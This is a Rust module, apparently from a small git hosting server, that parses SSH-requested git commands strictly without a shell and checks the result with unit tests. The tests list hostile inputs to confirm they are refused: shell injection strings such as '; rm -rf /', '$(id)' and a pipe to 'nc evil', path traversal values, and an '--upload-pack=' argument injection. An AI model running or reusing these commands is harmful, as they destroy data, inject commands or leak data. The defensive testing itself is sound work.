//! The command an SSH client asked for (`SSH_ORIGINAL_COMMAND`), read exactly and never by a
//! shell. git sends `git-upload-pack 'owner/repo.git'`, quoting the path as its `sq_quote_buf`
//! does: the whole argument between single quotes, a `'` inside written `'\''` and a `!` written
//! `'\!'`. Words are read with those rules only: outside quotes a word may hold letters, digits
//! and `._/~-`, and a backslash only before `'` or `!`; control characters are refused anywhere.
//! Everything a shell would give a meaning to (`;`, `|`, `&`, `$`, backticks, redirections,
//! globs, an unclosed quote) makes the command unreadable, so it is refused as a whole.

use crate::git::names::{valid_name, valid_owner};
use crate::gitrun::service::Service;

/// The longest command read; git's are a few dozen bytes.
const MAX_LEN: usize = 4096;

/// What a client asked for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Asked {
    /// A git service on a repository, the names as written (not yet looked up).
    Git {
        service: Service,
        owner: String,
        name: String,
    },
    /// Nothing: someone ran `ssh forgelet@host`.
    Shell,
    /// `git-lfs-authenticate OWNER/REPO download|upload`: a short-lived header for the LFS
    /// API over HTTP.
    LfsAuthenticate {
        owner: String,
        name: String,
        upload: bool,
    },
    /// `git-lfs-transfer` (LFS's own protocol over SSH, which forgelet does not serve: git-lfs
    /// then asks `git-lfs-authenticate`), or `git-lfs-authenticate` with arguments that do not fit.
    Lfs,
    /// A git service with a path that names no repository forgelet could hold.
    BadPath { service: Service },
    /// A git service with no argument or more than one.
    BadArguments { service: Service },
    /// Anything else: a shell command, scp, sftp, rsync, another program, or a command that
    /// cannot be read; the reason, for the log.
    Other(&'static str),
}

/// Reads `SSH_ORIGINAL_COMMAND` (`None` when sshd set none).
pub(crate) fn parse(command: Option<&[u8]>) -> Asked {
    let Some(command) = command else {
        return Asked::Shell;
    };
    if command.iter().all(|&b| b == b' ' || b == b'\t') {
        return Asked::Shell;
    }
    if command.len() > MAX_LEN {
        return Asked::Other("the command is too long");
    }
    let words = match words(command) {
        Ok(w) => w,
        Err(why) => return Asked::Other(why),
    };
    let Ok(words): Result<Vec<String>, _> = words.into_iter().map(String::from_utf8).collect()
    else {
        return Asked::Other("the command is not UTF-8");
    };
    let (program, args) = match words.as_slice() {
        [git, sub, rest @ ..] if git == "git" => (format!("git-{sub}"), rest),
        [program, rest @ ..] => (program.clone(), rest),
        [] => return Asked::Shell,
    };
    let service = match program.as_str() {
        "git-upload-pack" => Service::UploadPack,
        "git-receive-pack" => Service::ReceivePack,
        "git-upload-archive" => Service::UploadArchive,
        "git-lfs-transfer" => return Asked::Lfs,
        "git-lfs-authenticate" => {
            return match args {
                [path, op] if op == "download" || op == "upload" => match repo_path(path) {
                    Some((owner, name)) => Asked::LfsAuthenticate {
                        owner,
                        name,
                        upload: op == "upload",
                    },
                    None => Asked::Lfs,
                },
                _ => Asked::Lfs,
            }
        }
        _ => return Asked::Other("not a git service"),
    };
    let [path] = args else {
        return Asked::BadArguments { service };
    };
    match repo_path(path) {
        Some((owner, name)) => Asked::Git {
            service,
            owner,
            name,
        },
        None => Asked::BadPath { service },
    }
}

/// `owner/repo`, with `.git` or without, after a leading `/` (an `ssh://` URL's path) or `~/`
/// (as GitHub tolerates); nothing else: no other folder, no more segments, no empty one.
fn repo_path(path: &str) -> Option<(String, String)> {
    let path = path
        .strip_prefix("~/")
        .or_else(|| path.strip_prefix('/'))
        .unwrap_or(path);
    let (owner, name) = path.split_once('/')?;
    let name = name.strip_suffix(".git").unwrap_or(name);
    (valid_owner(owner) && valid_name(name)).then(|| (owner.to_string(), name.to_string()))
}

/// Splits a command into words by the quoting rules of the module's description.
fn words(command: &[u8]) -> Result<Vec<Vec<u8>>, &'static str> {
    let plain = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'/' | b'~' | b'-');
    let mut words = Vec::new();
    let mut word: Option<Vec<u8>> = None;
    let mut i = 0;
    while i < command.len() {
        let b = command[i];
        if b.is_ascii_control() {
            return Err("a control character");
        }
        match b {
            b' ' => {
                if let Some(w) = word.take() {
                    words.push(w);
                }
            }
            b'\'' => {
                let w = word.get_or_insert_with(Vec::new);
                let rest = &command[i + 1..];
                let Some(end) = rest.iter().position(|&c| c == b'\'') else {
                    return Err("a quote left open");
                };
                if rest[..end].iter().any(u8::is_ascii_control) {
                    return Err("a control character");
                }
                w.extend_from_slice(&rest[..end]);
                i += end + 1;
            }
            b'\\' => match command.get(i + 1) {
                Some(&c @ (b'\'' | b'!')) => {
                    word.get_or_insert_with(Vec::new).push(c);
                    i += 1;
                }
                _ => return Err("a backslash outside quotes"),
            },
            b if plain(b) => word.get_or_insert_with(Vec::new).push(b),
            _ => return Err("a shell character outside quotes"),
        }
        i += 1;
    }
    if let Some(w) = word {
        words.push(w);
    }
    Ok(words)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn git(service: Service, owner: &str, name: &str) -> Asked {
        Asked::Git {
            service,
            owner: owner.into(),
            name: name.into(),
        }
    }

    fn parse_str(s: &str) -> Asked {
        parse(Some(s.as_bytes()))
    }

    /// git's own quoting of one argument (`sq_quote_buf`).
    fn sq_quote(s: &str) -> String {
        let mut out = String::from("'");
        for c in s.chars() {
            match c {
                '\'' | '!' => {
                    out.push_str("'\\");
                    out.push(c);
                    out.push('\'');
                }
                c => out.push(c),
            }
        }
        out.push('\'');
        out
    }

    #[test]
    fn what_git_sends_is_read() {
        use Service::*;
        let r = |n: &str| git(UploadPack, "alice", n);
        assert_eq!(parse_str("git-upload-pack 'alice/r.git'"), r("r"));
        assert_eq!(parse_str("git-upload-pack 'alice/r'"), r("r"));
        assert_eq!(parse_str("git-upload-pack alice/r.git"), r("r"));
        assert_eq!(parse_str("git upload-pack 'alice/r.git'"), r("r"));
        assert_eq!(parse_str("git-upload-pack '/alice/r.git'"), r("r"));
        assert_eq!(parse_str("git-upload-pack '~/alice/r.git'"), r("r"));
        assert_eq!(parse_str("git-upload-pack  'alice/r.git' "), r("r"));
        assert_eq!(
            parse_str("git-receive-pack 'Alice/My.Repo_1-x.git'"),
            git(ReceivePack, "Alice", "My.Repo_1-x")
        );
        assert_eq!(
            parse_str("git receive-pack 'alice/r.git'"),
            git(ReceivePack, "alice", "r")
        );
        assert_eq!(
            parse_str("git-upload-archive 'alice/r.git'"),
            git(UploadArchive, "alice", "r")
        );
        assert_eq!(
            parse_str("git upload-archive alice/r"),
            git(UploadArchive, "alice", "r")
        );
        // Quoting as git does it, and pieces of a word quoted apart, make one word.
        assert_eq!(
            parse(Some(sq_quote("alice/r.git").as_bytes())),
            Asked::Other("not a git service")
        );
        assert_eq!(
            parse_str(&format!("git-upload-pack {}", sq_quote("alice/r.git"))),
            r("r")
        );
        assert_eq!(parse_str("git-upload-pack 'alice'/'r.git'"), r("r"));
        assert_eq!(parse_str("git-upload-pack alice/'r'.git"), r("r"));
    }

    #[test]
    fn quotes_and_bangs_in_a_path_are_read_then_refused_as_names() {
        let quoted = sq_quote("alice/it's!.git");
        assert_eq!(quoted, "'alice/it'\\''s'\\!'.git'");
        assert_eq!(
            words(quoted.as_bytes()),
            Ok(vec![b"alice/it's!.git".to_vec()])
        );
        assert_eq!(
            parse_str(&format!("git-upload-pack {quoted}")),
            Asked::BadPath {
                service: Service::UploadPack
            }
        );
    }

    #[test]
    fn no_command_is_a_shell() {
        assert_eq!(parse(None), Asked::Shell);
        assert_eq!(parse_str(""), Asked::Shell);
        assert_eq!(parse_str("   "), Asked::Shell);
    }

    #[test]
    fn lfs_is_read_apart() {
        assert_eq!(
            parse_str("git-lfs-authenticate 'alice/r.git' download"),
            Asked::LfsAuthenticate {
                owner: "alice".into(),
                name: "r".into(),
                upload: false
            }
        );
        assert_eq!(
            parse_str("git-lfs-authenticate alice/r upload"),
            Asked::LfsAuthenticate {
                owner: "alice".into(),
                name: "r".into(),
                upload: true
            }
        );
        for bad in [
            "git-lfs-authenticate 'alice/r.git'",
            "git-lfs-authenticate 'alice/r.git' delete",
            "git-lfs-authenticate '../x/r.git' download",
            "git-lfs-authenticate 'alice/r.git' download extra",
        ] {
            assert_eq!(parse_str(bad), Asked::Lfs, "{bad}");
        }
        assert_eq!(
            parse_str("git-lfs-transfer 'alice/r.git' upload"),
            Asked::Lfs
        );
        assert_eq!(
            parse_str("git lfs-transfer alice/r.git download"),
            Asked::Lfs
        );
    }

    #[test]
    fn other_programs_are_refused() {
        for command in [
            "sh",
            "bash -i",
            "ls",
            "scp -t /tmp",
            "scp -f alice/r.git/config",
            "internal-sftp",
            "/usr/lib/openssh/sftp-server",
            "rsync --server -vlogDtpre.iLsfxC . /tmp",
            "git-shell",
            "git config --list",
            "git-upload-packx 'alice/r.git'",
            "git-http-backend",
            "forgelet user list",
        ] {
            assert!(
                matches!(parse_str(command), Asked::Other(_)),
                "{command}: {:?}",
                parse_str(command)
            );
        }
    }

    #[test]
    fn hostile_commands_are_refused() {
        for command in [
            "git-upload-pack 'alice/r.git'; rm -rf /",
            "git-upload-pack 'alice/r.git';rm -rf /",
            "git-upload-pack alice/r.git && rm -rf /",
            "git-upload-pack alice/r.git || true",
            "git-upload-pack alice/r.git | nc evil 1",
            "git-upload-pack $(id)",
            "git-upload-pack 'alice/r.git'$(id)",
            "git-upload-pack ${HOME}",
            "git-upload-pack `id`",
            "git-upload-pack alice/r.git > /tmp/x",
            "git-upload-pack alice/r.git < /etc/passwd",
            "git-upload-pack alice/*",
            "git-upload-pack alice/r?.git",
            "git-upload-pack 'alice/r.git",
            "git-upload-pack alice/r.git'",
            "git-upload-pack \"alice/r.git\"",
            "git-upload-pack alice/r\\.git",
            "git-upload-pack 'alice/r.git'\n",
            "git-upload-pack 'alice/r.git'\nrm -rf /",
            "git-upload-pack\t'alice/r.git'",
            "git-upload-pack 'alice/r.git\nx'",
            "git-upload-pack 'alice/r.git\0'",
            "git-upload-pack alice/r.git &",
            "git-upload-pack #alice/r.git",
        ] {
            assert!(
                matches!(parse_str(command), Asked::Other(_)),
                "{command:?}: {:?}",
                parse_str(command)
            );
        }
        assert_eq!(
            parse(Some(b"git-upload-pack 'alice/r\xff.git'")),
            Asked::Other("the command is not UTF-8")
        );
        assert!(matches!(
            parse_str(&format!("git-upload-pack '{}'", "a".repeat(5000))),
            Asked::Other(_)
        ));
    }

    #[test]
    fn paths_outside_the_repositories_are_refused() {
        let bad = Asked::BadPath {
            service: Service::UploadPack,
        };
        for path in [
            "'../alice/r.git'",
            "'alice/../bob/r.git'",
            "'alice/..'",
            "'..'",
            "'/etc/passwd/x'",
            "'/srv/git/alice/r.git'",
            "'/home/forgelet/alice/r.git'",
            "'~root/r.git'",
            "'~/../alice/r.git'",
            "'alice//r.git'",
            "'/alice/r.git/'",
            "'//alice/r.git'",
            "'alice/r.git/config'",
            "'alice/r.git/..'",
            "'alice'",
            "'alice/'",
            "'/r.git'",
            "''",
            "'alice/.git'",
            "'alice/r.git.git'",
            "'alice/r.lock'",
            "'-alice/r.git'",
            "'alice/-r.git'",
            "'--upload-pack=touch /tmp/x'",
            "'alice/r git'",
            "'new/r.git'",
            "'alice/r;id'",
            "'alice/r$(id)'",
            "'alice/\u{e9}t\u{e9}.git'",
        ] {
            assert_eq!(parse_str(&format!("git-upload-pack {path}")), bad, "{path}");
        }
    }

    #[test]
    fn an_absolute_path_names_a_repository_of_the_site_not_a_file() {
        // ssh://host/etc/passwd asks for the repository etc/passwd, looked up in the
        // repositories folder like any other.
        assert_eq!(
            parse_str("git-upload-pack '/etc/passwd'"),
            git(Service::UploadPack, "etc", "passwd")
        );
    }

    #[test]
    fn a_service_takes_exactly_one_argument() {
        let bad = |service| Asked::BadArguments { service };
        assert_eq!(parse_str("git-upload-pack"), bad(Service::UploadPack));
        assert_eq!(
            parse_str("git-upload-pack 'alice/r.git' 'bob/s.git'"),
            bad(Service::UploadPack)
        );
        assert_eq!(
            parse_str("git-receive-pack --help alice/r.git"),
            bad(Service::ReceivePack)
        );
        assert_eq!(parse_str("git upload-archive"), bad(Service::UploadArchive));
        assert_eq!(
            parse_str("git-upload-pack 'alice/r.git' ''"),
            bad(Service::UploadPack)
        );
    }
}
